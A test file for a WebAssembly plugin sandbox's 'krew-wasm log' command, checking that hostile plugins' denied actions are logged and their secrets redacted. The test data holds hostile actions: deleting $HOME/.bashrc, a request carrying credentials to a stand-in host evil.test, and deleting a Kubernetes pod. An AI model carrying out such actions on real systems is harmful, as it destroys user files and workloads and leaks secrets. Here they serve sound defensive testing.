/** The output of `krew-wasm log` after hostile plugins. */

import assert from "node:assert/strict";
import { clangMissing } from "../support/product.ts";
import { testBinary } from "../support/test_binary.ts";
import { Stage } from "./stage.ts";

testBinary("krew-wasm log shows each plugin's denials and times, and no secret", {
  ignore: clangMissing(),
}, async () => {
  await using stage = await Stage.make();
  const { product } = stage;
  const log = async (...args: string[]) => await product.run("log", ...args);
  assert.deepEqual(await log(), { code: 0, stdout: "", stderr: "Nothing recorded\n" });
  stage.reset();

  assert.equal((await stage.attack("preview1", ["print", "harmless"])).stdout, "harmless\n");
  assert.equal((await log()).stdout, "");

  await stage.attack("preview1", ["unlink", "$HOME/.bashrc", ",", "read", "$WORK/bait"], {
    granted: "--allow-read=$HOME",
  });
  await stage.attack("preview1", [
    ...["request", "get", "https://user:s3cr3t@evil.test/x?s3cr3t", "", ","],
    ...["request", "delete", "$SERVER/api/v1/namespaces/default/pods/web", ""],
  ], { network: true, granted: "--allow-cluster=read-only" });
  const table = (await log()).stdout;
  assert.match(table, /^AGE +PLUGIN +EVENT +WHAT +GRANT\n/);
  assert.match(table, /\n\d+s +attack +denied +change \S*\.bashrc +--allow-write=\S*\.bashrc\n/);
  assert.match(table, /\n\d+s +attack-network +denied +send a request to https:\/\/evil\.test +<none>\n/);
  assert.match(
    table,
    /\n\d+s +attack-network +denied +delete pods .* +--allow-cluster=delete:pods\[web\]@default\n/,
  );
  assert.doesNotMatch(table, /s3cr3t/);
  assert.equal((await log("attack", "--no-headers")).stdout.trimEnd().split("\n").length, 1);
  assert.equal((await log("other")).stderr, 'Nothing recorded of "other"\n');
  assert.equal((await log("--since", "0s")).stdout, "");
  assert.equal((await log("--since", "1h", "-o", "json")).stdout, (await log("-o", "json")).stdout);
  assert.equal((await log("--since", "soon")).code, 2);
  assert.equal((await log("../x")).code, 2);

  await stage.attack("preview1", ["request", "get", "$SERVER/version?token=s3cr3t", ""], {
    network: true,
    env: { KREW_WASM_LOG: "requests" },
  });
  const lines = (await log("attack-network", "-o", "json")).stdout.trimEnd().split("\n").map((line) =>
    JSON.parse(line)
  );
  const { time: _time, pid: _pid, ms: _ms, ...request } = lines.at(-1);
  assert.deepEqual(request, {
    plugin: "attack-network",
    event: "request",
    method: "GET",
    path: "/version",
    status: 200,
  });
  for (const { name } of Deno.readDirSync(`${product.store}/log`)) {
    const path = `${product.store}/log/${name}`;
    assert.equal(Deno.statSync(path).mode! & 0o777, 0o600);
    assert.doesNotMatch(Deno.readTextFileSync(path), /s3cr3t/);
  }
});
